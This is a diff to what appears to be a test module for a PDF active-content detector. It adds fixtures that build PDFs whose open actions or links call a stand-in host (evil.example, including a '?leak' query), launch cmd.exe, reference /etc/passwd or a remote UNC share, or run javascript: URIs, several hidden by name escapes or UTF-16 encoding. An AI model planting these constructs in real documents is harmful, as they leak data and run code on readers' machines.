@@ -38,6 +38,14 @@ def action(kind: bytes, more: bytes = b"") -> bytes:
     return pdf(catalog=b"/OpenAction<</S/" + kind + more + b">>")
 
 
+AWAY = b"/AA<</O<</S/URI/URI(http://evil.example)>>>>>>"
+
+
+def linked(address: bytes) -> bytes:
+    """A page with a link that one may click."""
+    return pdf(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI" + address + b">>>>")
+
+
 def in_object_stream(content: bytes) -> bytes:
     """The catalog's action lies in a packed object stream, and so does nothing that one could search for."""
     inside = b"6 0 " + content
@@ -118,6 +126,27 @@ PDF: dict[str, tuple[Callable[[], bytes], str]] = {
     "script in another spelling": (lambda: action(b"J#61vaScript", b"/J#53(1)"), "file_active"),
     "script under a later revision": (covered, "file_active"),
     "script by name": (lambda: pdf(catalog=b"/Names<</J#61vaScript<</Names[(a) 4 0 R]>>>>"), "file_active"),
+    "page of the web on opening": (lambda: action(b"URI", b"/URI(http://evil.example/?leak)"), "file_active"),
+    "script in a link on opening": (lambda: action(b"URI", b"/URI(javascript:alert\\(1\\))"), "file_active"),
+    "printer on opening": (lambda: action(b"Named", b"/N/Print"), "file_active"),
+    "action on opening in an object of its own": (
+        lambda: pdf(b"<</S 5 0 R/N/Print>>", b"/Named", catalog=b"/OpenAction 4 0 R"), "file_active",
+    ),
+    "second action on opening": (
+        lambda: action(b"GoTo", b"/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>"), "file_active",
+    ),
+    "action of a page that opens": (lambda: pdf(page=PAGE[:-2] + AWAY), "file_active"),
+    "actions of a page in objects of their own": (
+        lambda: pdf(b"<</O 5 0 R>>", b"<</S/Named/N/Print>>", page=PAGE[:-2] + b"/AA 4 0 R>>"), "file_active",
+    ),
+    "script in a link": (lambda: linked(b"(java\\nscript:alert\\(1\\))"), "file_active"),
+    "file in a link": (lambda: linked(b"(file:///etc/passwd)"), "file_active"),
+    "another machine's file in a link": (lambda: linked(b"(\\\\\\\\evil.example\\\\x)"), "file_active"),
+    "link in UTF-16": (
+        lambda: linked(b"<FEFF%b>" % "javascript:1".encode("utf-16-be").hex().encode()), "file_active",
+    ),
+    "beginning of all links": (lambda: pdf(catalog=b"/URI<</Base(javascript:)>>"), "file_active"),
+    "program by a name of its own": (lambda: pdf(b"<</S 5 0 R/F(cmd.exe)>>", b"/L#61unch"), "file_active"),
     "program": (lambda: action(b"L#61unch", b"/F(cmd.exe)"), "file_active"),
     "other file": (lambda: action(b"GoToR", b"/F(other.pdf)"), "file_active"),
     "form that sends itself": (lambda: action(b"Submit#46orm", b"/F(http://evil.example)"), "file_active"),
